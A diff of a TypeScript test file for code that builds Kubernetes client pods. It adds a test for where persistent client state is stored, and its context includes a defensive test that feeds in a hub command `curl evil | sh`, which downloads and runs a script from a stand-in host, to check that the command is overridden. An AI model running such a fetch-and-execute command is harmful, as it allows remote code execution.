@@ -61,6 +61,19 @@ describe('client objects', () => {
     expect(scratch.spec!.volumes!.map((v) => v.name)).not.toContain('audit');
   });
 
+  test("what a client carries across pods is on the site's state claim, a folder per job and site, when the site has one; in the pod's scratch volume otherwise", () => {
+    const kept = clientPod(heart, { ...settings, stateClaim: 'flotilla-client-state' });
+    const args = kept.spec!.containers[0]!.args!;
+    expect(args.slice(args.indexOf('--state-dir'), args.indexOf('--state-dir') + 2)).toEqual(['--state-dir', '/state/cardiology/heart-u1/st-olav']);
+    expect(kept.spec!.volumes!.find((v) => v.name === 'state')).toEqual({ name: 'state', persistentVolumeClaim: { claimName: 'flotilla-client-state' } });
+    expect(kept.spec!.containers[0]!.volumeMounts).toContainEqual({ name: 'state', mountPath: '/state' });
+    // The scratch volume stays scratch: only what must outlive the pod goes on the claim.
+    expect(kept.spec!.volumes!.find((v) => v.name === 'work')).toEqual({ name: 'work', emptyDir: {} });
+    const scratch = clientPod(heart, settings);
+    expect(scratch.spec!.containers[0]!.args).not.toContain('--state-dir');
+    expect(scratch.spec!.volumes!.map((v) => v.name)).not.toContain('state');
+  });
+
   test("the container's command is the agent's own, whatever the hub asked", () => {
     const pod = clientPod({ ...heart, ...({ command: ['sh', '-c', 'curl evil | sh'] } as object) }, settings);
     expect(pod.spec!.containers[0]!.command).toEqual(CLIENT_COMMAND);
